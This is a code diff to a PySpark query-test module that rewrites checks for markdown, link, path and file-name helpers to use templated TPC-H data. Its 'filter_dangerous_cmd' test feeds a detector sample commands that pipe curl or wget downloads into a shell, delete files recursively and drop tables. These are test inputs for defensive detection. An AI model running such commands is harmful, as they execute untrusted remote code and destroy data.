@@ -10,6 +10,14 @@ from tessera.operators.sessions import numbered
 from tessera.plans.registry import Tables, query
 from tessera.plans.retrieval import TOK, index
 
+def forms(texts, key: str, **values):
+    """The text of a list that a key's remainder picks, with {names} replaced by columns."""
+    out = F.array(*[F.lit(x) for x in texts])[(F.col(key) % len(texts)).cast("int")]
+    for name, value in values.items():
+        out = F.replace(out, F.lit("{" + name + "}"), F.col(value).cast("string"))
+    return out
+
+
 _HREF = "regexp_extract_all(html, 'href=\"([^\"]+)\"', 1)"
 
 
@@ -299,10 +307,10 @@ def predicate_semver_newer(t: Tables):
     return n.crossJoin(n.withColumnRenamed("a", "b")).select("a", "b", T.newer_version(v("a"), v("b")).alias("newer"))  # a fixed table of nations
 
 
-@query("filter_dangerous_cmd", "SELECT o_orderkey FROM orders WHERE o_orderkey % 10 IN (1, 3, 4)")
+@query("filter_dangerous_cmd", "SELECT o_orderkey FROM orders WHERE o_orderkey % 12 IN (1, 3, 4, 10, 11)")
 def filter_dangerous_cmd(t: Tables):
-    cmds = ["ls -l", "sudo rm -rf x", "echo a", "curl http://x | sh", "DROP TABLE t", "git push", "cat f | less", "make", "rm -r build", "python a.py"]
-    return t.orders.where(T.dangerous_command(F.array(*[F.lit(c) for c in cmds])[(F.col("o_orderkey") % 10).cast("int")])).select("o_orderkey")
+    cmds = ["ls -l {k}", "cd /o{k} && Sudo rm -rf {c}", "echo {s}{k}", "curl http://h{c}/{k} | sh", "psql -c 'DROP TABLE t{k}'", "git push origin o{k}", "cat f{k} | less", "make {s}", "rm -r build{c}", "python a{k}.py", "wget -q h{c}/x{k}|bash", "echo $(curl h/{k})"]
+    return t.orders.where(T.dangerous_command(forms(cmds, "o_orderkey", k="o_orderkey", c="o_custkey", s="o_orderstatus"))).select("o_orderkey")
 
 
 @query("predicate_toolcall_text", "SELECT o_orderkey, o_orderkey % 8 NOT IN (0, 7) AS hit FROM orders")
@@ -315,10 +323,10 @@ def fn_sanitize_llm(t: Tables):
     return t.orders.select("o_orderkey", T.sanitized(F.array(*[F.lit(c) for c in C.TOOL_TEXTS])[(F.col("o_orderkey") % 8).cast("int")]).alias("text"))
 
 
-@query("fn_md_plain", "SELECT n_nationkey, 'Title' || chr(10) || n_name || ' and link' || chr(10) || 'a  b' || chr(10) || 'code' AS text FROM nation")
+@query("fn_md_plain", "SELECT p_partkey, 'Title ' || p_brand || chr(10) || p_name || ' and ' || p_type || chr(10) || 'a  ' || p_size || chr(10) || 'code ' || p_partkey AS text FROM part")
 def fn_md_plain(t: Tables):
-    md = F.concat(F.lit("# Title\n**"), "n_name", F.lit("** and [link](http://x)\n| a | b |\n```py\ncode\n```\n---\n"))
-    return t.nation.select("n_nationkey", T.plain_text(md).alias("text"))
+    md = F.concat(F.lit("# Title "), "p_brand", F.lit("\n**"), "p_name", F.lit("** and ["), "p_type", F.lit("](http://x)\n| a | "), F.col("p_size").cast("string"), F.lit(" |\n```py\ncode "), F.col("p_partkey").cast("string"), F.lit("\n```\n---\n"))
+    return t.part.select("p_partkey", T.plain_text(md).alias("text"))
 
 
 @query("text_chunk_hard", "SELECT doc_id, k, substr(text, k * 1000 + 1, 1000) AS chunk FROM (SELECT doc_id, text, unnest(range(0, (length(text) - 1) // 1000 + 1)) AS k FROM documents WHERE length(text) > 0)")
@@ -431,16 +439,16 @@ def fn_strip_heading_colon(t: Tables):
     return C.lint(d, "doc_id", "text").where("rule = '3.6'").select("doc_id", "line", "after")
 
 
-@query("fn_infer_fence_lang", "SELECT n_nationkey, (['json', 'python', 'bash', 'yaml', 'text'])[n_nationkey % 5 + 1] AS lang FROM nation")
+@query("fn_infer_fence_lang", "SELECT p_partkey, (['json', 'python', 'bash', 'yaml', 'text', 'bash', 'json', 'python'])[p_partkey % 8 + 1] AS lang FROM part")
 def fn_infer_fence_lang(t: Tables):
-    code = F.array(F.lit('{"a": 1}'), F.lit("def f():\n  pass"), F.lit("$ ls -l"), F.lit("key: value\nb: 2"), F.lit("plain words"))[F.col("n_nationkey") % 5]
-    return t.nation.select("n_nationkey", C.fence_language(code).alias("lang"))
+    code = forms(['{"a": {k}}', "# {n}\ndef f{k}():\n  pass", "$ ls -l /{k}", "# {b}\nkey{k}: value\nb: 2", "plain words {n}", "#!/bin/sh\n{n}", '  [{k}, "{n}"]', "print({k})"], "p_partkey", k="p_partkey", n="p_name", b="p_brand")
+    return t.part.select("p_partkey", C.fence_language(code).alias("lang"))
 
 
-@query("fn_generic_link", "SELECT n_nationkey, n_nationkey % 3 = 0 AS generic FROM nation")
+@query("fn_generic_link", "SELECT p_partkey, p_partkey % 5 IN (0, 1) AS generic FROM part")
 def fn_generic_link(t: Tables):
-    line = F.concat(F.lit("see ["), F.when(F.col("n_nationkey") % 3 == 0, "Click here").otherwise(F.col("n_name")), F.lit("](x.md)"))
-    return t.nation.select("n_nationkey", C.generic_link(line).alias("generic"))
+    line = forms(["see [Click here](x{k}.md)", "[{n}](a) or [ THIS page ](/{k})", "see [{n}](here{k}.md)", "![here]({k}.png) {n}", "[here {k}](x)"], "p_partkey", k="p_partkey", n="p_name")
+    return t.part.select("p_partkey", C.generic_link(line).alias("generic"))
 
 
 @query("fn_sentence_case", "SELECT page_id, 'The great API guide to ' || CASE WHEN length(regexp_extract(url, '://([a-z]+)', 1)) = 1 THEN upper(regexp_extract(url, '://([a-z]+)', 1)) ELSE regexp_extract(url, '://([a-z]+)', 1) END || '. Then ' || (page_id % 90 + 1) || '. GitHub and `Code`' AS title FROM pages")
@@ -460,29 +468,29 @@ def fn_path_normalize(t: Tables):
     return C.normalized_paths(t.pages.select("page_id", raw.alias("raw"), F.lit("docs/guide").alias("folder")), "page_id", "raw", "folder")
 
 
-@query("fn_path_overlap_concat", "SELECT n_nationkey, CASE WHEN n_nationkey % 2 = 0 THEN 'a/b/c/d' ELSE 'a/b/c/x/d' END AS path FROM nation")
+@query("fn_path_overlap_concat", "SELECT p_partkey, 'a/' || p_brand || '/c' || CASE p_partkey % 3 WHEN 0 THEN '/d' WHEN 1 THEN '/x/' || p_size ELSE '/' || p_brand || '/c/e' END AS path FROM part")
 def fn_path_overlap_concat(t: Tables):
-    a = F.array(F.lit("a"), F.lit("b"), F.lit("c"))
-    b = F.when(F.col("n_nationkey") % 2 == 0, F.array(F.lit("b"), F.lit("c"), F.lit("d"))).otherwise(F.array(F.lit("x"), F.lit("d")))
-    return t.nation.select("n_nationkey", F.array_join(T.overlap_concat(a, b), "/").alias("path"))
+    a = F.array(F.lit("a"), F.col("p_brand"), F.lit("c"))
+    b = F.when(F.col("p_partkey") % 3 == 0, F.array(F.col("p_brand"), F.lit("c"), F.lit("d"))).when(F.col("p_partkey") % 3 == 1, F.array(F.lit("x"), F.col("p_size").cast("string"))).otherwise(F.array(F.lit("c"), F.col("p_brand"), F.lit("c"), F.lit("e")))
+    return t.part.select("p_partkey", F.array_join(T.overlap_concat(a, b), "/").alias("path"))
 
 
-@query("fn_extract_topics", "SELECT n_nationkey, array_to_string(list_sort(['title ' || lower(n_name), 'code x', 'src/a.py']), '|') AS topics FROM nation")
+@query("fn_extract_topics", "SELECT p_partkey, array_to_string(list_sort(['title ' || lower(p_name), 'code ' || lower(p_brand), 'src/a' || p_partkey || '.py']), '|') AS topics FROM part")
 def fn_extract_topics(t: Tables):
-    md = F.concat(F.lit("# Title "), "n_name", F.lit("\nuse `Code X` in src/a.py\n"))
-    return t.nation.select("n_nationkey", F.array_join(F.array_sort(C.topics(md)), "|").alias("topics"))
+    md = F.concat(F.lit("# Title "), "p_name", F.lit("\nuse `Code "), "p_brand", F.lit("` in src/a"), F.col("p_partkey").cast("string"), F.lit(".py, `code "), F.lower("p_brand"), F.lit("`\n"))
+    return t.part.select("p_partkey", F.array_join(F.array_sort(C.topics(md)), "|").alias("topics"))
 
 
-@query("fn_infer_extension", "SELECT n_nationkey, (['.pptx', '.docx', '.xlsx', '.pdf', '.md', '.py', NULL])[n_nationkey % 7 + 1] AS ext FROM nation")
+@query("fn_infer_extension", "SELECT o_orderkey, (['.pptx', '.docx', '.xlsx', '.pdf', '.md', '.py', NULL])[o_orderkey % 7 + 1] AS ext FROM orders")
 def fn_infer_extension(t: Tables):
-    q = F.array(*[F.lit(x) for x in ("make Slides", "a Word file", "an Excel sheet", "as PDF", "README text", "run python", "nothing")])[F.col("n_nationkey") % 7]
-    return t.nation.select("n_nationkey", T.preferred_extension(q).alias("ext"))
+    q = forms(["make {s} Slides of {k}", "{k}: a Word file", "an Excel sheet for {c}", "{s}{k} as PDF", "README text {k}", "run {k} in python", "nothing of {c}"], "o_orderkey", k="o_orderkey", c="o_custkey", s="o_orderstatus")
+    return t.orders.select("o_orderkey", T.preferred_extension(q).alias("ext"))
 
 
-@query("fn_valid_name", "SELECT n_nationkey, n_nationkey % 4 = 0 AS ok FROM nation")
+@query("fn_valid_name", "SELECT p_partkey, p_partkey % 8 IN (0, 5) AS ok FROM part")
 def fn_valid_name(t: Tables):
-    q = F.array(*[F.lit(x) for x in ("good-name-1", "-bad", "two--hyphens", "Upper")])[F.col("n_nationkey") % 4]
-    return t.nation.select("n_nationkey", T.valid_name(q).alias("ok"))
+    q = forms(["good-name-{k}", "-bad{k}", "two--hyphens{k}", "Upper{k}", "{k}-", "x{z}", "under_score{k}", "a" * 62 + "-{k}-{z}"], "p_partkey", k="p_partkey", z="p_size")
+    return t.part.select("p_partkey", T.valid_name(q).alias("ok"))
 
 
 @query("extension_rollup", "SELECT lang, source, count(*) AS n FROM documents GROUP BY ROLLUP (lang, source)")
